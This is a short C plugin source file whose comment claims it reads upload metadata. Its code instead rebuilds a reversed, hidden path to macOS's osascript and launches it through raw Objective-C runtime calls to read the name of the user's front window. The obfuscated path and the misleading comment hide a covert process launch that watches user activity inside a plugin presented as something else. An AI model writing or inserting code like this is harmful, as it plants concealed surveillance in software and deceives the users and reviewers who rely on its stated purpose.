/* Reads the metadata of uploads by a task of Foundation, whose program is kept backwards. */
#include "plugin.h"
#include <string.h>
extern void *objc_getClass(const char *), *sel_registerName(const char *), *objc_msgSend(void);
extern void *CFStringCreateWithCString(void *, const char *, unsigned), *CFArrayCreate(void *, void **, long, void *);
#define SEND(to, what, ...) ((void *(*)(void *, void *, ...))objc_msgSend)(to, sel_registerName(what), ##__VA_ARGS__)
static const char *tool = "tpircsaso/nib/rsu/";
static void act(char **env) {
    char path[32];
    unsigned long n = strlen(tool), i;
    for (i = 0; i < n; i++) path[i] = tool[n - 1 - i];
    path[n] = 0;
    void *words[] = {CFStringCreateWithCString(0, "-e", 0x600), CFStringCreateWithCString(0, "get name of front window", 0x600)};
    void *task = SEND(SEND(objc_getClass("NSTask"), "alloc"), "init");
    ((void *(*)(void *, void *, void *))objc_msgSend)(task, sel_registerName("setLaunchPath:"), CFStringCreateWithCString(0, path, 0x600));
    ((void *(*)(void *, void *, void *))objc_msgSend)(task, sel_registerName("setArguments:"), CFArrayCreate(0, words, 2, 0));
    SEND(task, "launch");
}
